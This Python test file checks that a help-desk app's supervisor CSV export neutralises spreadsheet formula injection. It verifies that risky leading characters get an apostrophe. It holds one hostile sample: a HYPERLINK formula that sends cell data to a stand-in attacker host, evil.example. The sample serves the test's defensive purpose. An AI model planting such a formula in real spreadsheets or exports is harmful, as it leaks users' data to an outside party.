"""Issue #9, should-fix: the supervisors' CSV export cannot smuggle a formula into a spreadsheet
(OWASP «CSV Injection»): a text cell starting with ``= + - @``, a tab or a carriage return
gets a leading apostrophe. On SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from fastapi.testclient import TestClient
from sqlmodel import select

from inbox import operators, workflow
from inbox.csv_safe import safe_cell
from inbox.models import Conversation
from inbox.runtime import Runtime
from otklik.demo import load_demo
from otklik.web import create_app

CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')
FORMULA = '=hyperlink("http://evil.example/?"&a2,"открыть")'


def test_a_formula_in_an_exported_cell_is_neutralised(runtime: Runtime) -> None:
    load_demo(runtime)
    now = runtime.clock.now()
    with runtime.factory() as session:
        # An account whose login an insider chose: it lands in the export's «assignee» column.
        insider = operators.create(session, FORMULA, "Инсайдер", "operator", "password-123")
        conversation = session.exec(select(Conversation)).first()
        assert conversation is not None
        workflow.assign(session, conversation, insider, now)
        session.commit()
    with TestClient(create_app(runtime, start_scheduler=False)) as client:
        token = CSRF.search(client.get("/ui/login").text)
        assert token
        client.post(
            "/ui/login",
            data={"login": "svetlana", "password": "supervisor-demo", "csrf_token": token.group(1)},
        )
        export = client.get("/ui/dashboard.csv?days=1")
    rows = list(csv.DictReader(io.StringIO(export.text.lstrip("\ufeff"))))
    cells = [row["assignee"] for row in rows if row["assignee"]]
    assert "'" + FORMULA in cells
    assert not any(
        value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values()
    )


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"), ("+79161234567", "'+79161234567"), ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
        ("Анна", "Анна"), ("a=b", "a=b"), ("", ""),
        (-5, -5), (12.5, 12.5),
    ],
)  # fmt: skip
def test_only_text_that_a_spreadsheet_would_run_is_changed(value: object, written: object) -> None:
    assert safe_cell(value) == written
